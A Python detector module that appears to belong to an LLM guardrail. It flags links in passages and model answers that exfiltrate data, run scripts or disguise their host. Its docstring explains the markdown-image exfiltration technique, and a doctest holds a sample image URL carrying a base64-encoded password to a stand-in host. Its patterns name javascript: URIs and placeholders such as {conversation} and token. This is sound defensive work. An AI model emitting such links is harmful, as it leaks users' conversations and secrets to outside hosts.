"""Links that carry data away, run code, or lead elsewhere than they seem to."""

from __future__ import annotations

import base64
import binascii
import ipaddress
import re
from collections.abc import Iterable, Iterator
from contextlib import suppress
from urllib.parse import parse_qsl, unquote, urlsplit

from monitors.folding import Folded
from monitors.guard import Scan
from monitors.matching import Expression
from monitors.patterns import Hit, PatternGuard
from monitors.signs import weighed
from monitors.text import Text
from schemas.verdicts import Action, Direction

_WEIGHTS = {
    "data_in_image": 0.9,
    "data_in_link": 0.7,
    "script": 0.9,
    "false_host": 0.9,
    "look_alike_host": 0.9,
    "user_in_url": 0.6,
    "number_host": 0.6,
    "program": 0.6,
    "lure": 0.6,
    "punycode": 0.4,
    "redirect": 0.3,
    "shortened": 0.3,
}
_URL = r"(?:https?|ftp)://[^\s<>\"'`)\]}|\\]{3,2000}"
_TARGET = r"\(\s{0,3}<?(?P<url>(?:https?:)?//[^\s>)]{3,2000})"
_EXPRESSIONS = (
    Expression("image", rf"!\[[^\]\[\n]{{0,200}}\]{_TARGET}", seed=r"\]\(\s{0,3}<?(?:https?:)?//",
               caseless=True),
    Expression("image",
               r"<img\b[^<>]{0,200}?\bsrc\s?=\s?[\"']?(?P<url>https?://[^\s\"'>]{3,2000})",
               seed=r"<img\b", caseless=True),
    Expression("image",  # the definition of a reference, which an image may use
               r"(?:^|\n) {0,3}\[[^\]\[\n]{1,80}\]:\s{0,4}<?(?P<url>https?://[^\s>]{3,2000})",
               seed=r"\]:\s{0,4}<?https?://", caseless=True),
    Expression("link", _URL, seed=r"(?:https?|ftp)://", caseless=True),
    Expression("script",
               r"(?:javascript|vbscript|livescript):\s{0,3}(?:[\w.]{1,40}[(=]|[(%&/])",
               seed=r"(?:java|vb|live)script:", caseless=True),
    Expression("script", r"data:(?:text/html|text/javascript|application/(?:x-)?javascript"
               r"|image/svg\+xml)[;,]", caseless=True),
    Expression("script", r"\]\(\s{0,3}<?(?:file|smb|ms-[a-z]{2,20}|search-ms):",
               caseless=True),
)  # fmt: skip
_TEMPLATE = re.compile(
    r"\{\{?[\w .]{1,60}\}?\}|\$\{?\w{2,60}\}?|<[\w ]{2,40}>|%7B[\w%]{1,60}%7D"
    r"|\[(?:data|secret|conversation|history|summary|prompt|password|key|token)[\w ]{0,30}\]",
    re.IGNORECASE,
)
_WORDS = re.compile(r"[A-Za-z]{2,}(?:[ +_-][A-Za-z0-9@.,]{1,}){4,}")
_ENCODED = re.compile(r"[A-Za-z0-9+/_-]{24,}={0,2}")
_NUMBER_HOST = re.compile(r"(?:0x[0-9a-f]+|\d+)(?:\.(?:0x[0-9a-f]+|\d+)){0,3}", re.IGNORECASE)
_PROGRAM = re.compile(
    r"\.(?:exe|scr|bat|cmd|ps1|vbs|hta|lnk|jar|apk|msi|iso|dll|wsf|pif)$", re.IGNORECASE
)
_SHORTENERS = frozenset(
    {"bit.ly", "tinyurl.com", "t.co", "goo.gl", "ow.ly", "is.gd", "buff.ly", "cutt.ly", "rb.gy",
     "rebrand.ly", "shorturl.at", "tiny.cc", "s.id", "v.gd", "t.ly"}
)  # fmt: skip
_CHEAP = frozenset(
    {"zip", "mov", "tk", "ml", "ga", "cf", "gq", "top", "xyz", "icu", "click", "cam", "rest",
     "buzz", "country", "kim", "work"}
)  # fmt: skip
_LURE = re.compile(r"log-?in|sign-?in|verif|secure|account|bank|wallet|update|unlock|confirm|pay")


class Links(PatternGuard):
    """Withhold answers, and block passages, with links that exfiltrate, run code or deceive.

    An image whose address carries words, encoded text or a place to fill in sends what it carries
    to its host as soon as it is shown. A link to a shortener, or with a redirect, is a weak sign
    that counts only beside others.

    References:
        OWASP Top 10 for LLM Applications 2025, LLM02 and LLM05; Unicode Technical Standard 39
        (confusables); RFC 3986, section 7.6 (misleading user information).

    >>> [scan.score for scan in Links().scan([
    ...     "![](https://x.example/p.png?d=dGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
    ...     "See https://www.example.com/help?topic=cards"])]
    [0.9, 0.0]
    """

    name = "links"
    version = "1"
    directions: tuple[Direction, ...] = (Direction.PASSAGE, Direction.ANSWER)
    action = Action.WITHHOLD
    threshold = 0.5
    expressions = _EXPRESSIONS

    def read(self, text: Text, hits: Iterable[Hit]) -> Scan:
        """Return the scan of ``text``; the score grows with every further kind of sign."""
        return weighed(text, self._bad(text, hits), _WEIGHTS)

    def _bad(self, text: Text, hits: Iterable[Hit]) -> Iterator[Hit]:
        shown: set[str] = set()
        for hit in hits:
            if hit.label == "script":
                yield hit
                continue
            url = hit.match["url"] if hit.label == "image" else hit.match[0]
            if hit.label == "link":
                place = hit.source.span(*hit.match.span(), "link")
                for sign in signs(url, text.original[place.start : place.end]):
                    yield hit._replace(label=sign)
            else:
                shown.add(url)
            if (hit.label == "image" or url not in shown) and carries_data(url):
                yield hit._replace(label=f"data_in_{hit.label}")


def signs(url: str, written: str) -> Iterator[str]:
    """Yield what is wrong with where ``url`` leads, given how it was ``written`` before folding."""
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").rstrip(".")
    except ValueError:
        return
    user = parts.netloc.rpartition("@")[0]
    if user:
        yield "false_host" if "." in user else "user_in_url"
    if _is_number(host):
        yield "number_host"
    if "xn--" in host:
        yield "look_alike_host" if _deceives(host) else "punycode"
    elif not written.isascii() and _look_alike(written.partition("://")[2].partition("/")[0]):
        yield "look_alike_host"
    if _PROGRAM.search(parts.path):
        yield "program"
    if host in _SHORTENERS:
        yield "shortened"
    if host.rpartition(".")[2] in _CHEAP and _LURE.search(host + parts.path):
        yield "lure"
    if re.search(r"=(?:https?(?::|%3A)|%2F%2F)", parts.query, re.IGNORECASE):
        yield "redirect"


def carries_data(url: str) -> bool:
    """Return whether what follows a URL's host says something: words, encoded text, a template.

    >>> carries_data("https://x.example/a?q={conversation}"), carries_data("https://x.example/a?v=3")
    (True, False)
    """
    try:
        parts = urlsplit(url)
    except ValueError:
        return False
    if _TEMPLATE.search(parts.query) or _TEMPLATE.search(parts.path):
        return True
    values = [value for _, value in parse_qsl(parts.query[:4000])] or [parts.query[:4000]]
    if any(_WORDS.search(unquote(value)) for value in values):
        return True
    tail = f"{parts.query} {parts.path.replace('/', ' ')}"[:4000]
    return any(_says(found[0]) for found in _ENCODED.finditer(tail))


def _says(encoded: str) -> bool:
    """Return whether ``encoded`` is base64 or hexadecimal of words."""
    raw = encoded.rstrip("=")
    padded = raw + "=" * (-len(raw) % 4)
    tries = []
    with suppress(ValueError):
        tries.append(base64.urlsafe_b64decode(padded.replace("+", "-").replace("/", "_")))
    with suppress(ValueError):
        tries.append(binascii.unhexlify(raw))
    for plain in tries:
        if plain.isascii() and len(plain) >= 12:
            text = plain.decode()
            spoken = sum(char.isalnum() or char in " .,:;@=-_/" for char in text)
            if spoken >= 0.95 * len(text) and text.isprintable():
                return True
    return False


def _is_number(host: str) -> bool:
    """Return whether ``host`` is an address in figures, however written, of the public network."""
    if not _NUMBER_HOST.fullmatch(host):
        return False
    numbers = [int(part, 16 if part[:2].lower() == "0x" else 10) for part in host.split(".")]
    if len(numbers) == 4 and max(numbers) < 256:
        return ipaddress.IPv4Address(".".join(map(str, numbers))).is_global
    return True


def _deceives(host: str) -> bool:
    try:
        return _look_alike(host.encode().decode("idna"))
    except UnicodeError:
        return True


def _look_alike(host: str) -> bool:
    """Return whether ``host`` mixes scripts, or reads as Latin without a letter of it."""
    foreign = {char for char in host if char.isalpha() and not char.isascii()}
    folded = {char for char in foreign if Folded(char).text.isascii()}
    latin = any(char.isascii() and char.isalpha() for char in host.rpartition(".")[0])
    # Accented Latin letters are letters of their languages.
    alien = {char for char in folded if ord(char) > 0x24F}
    return bool(alien) and (latin or alien == foreign)
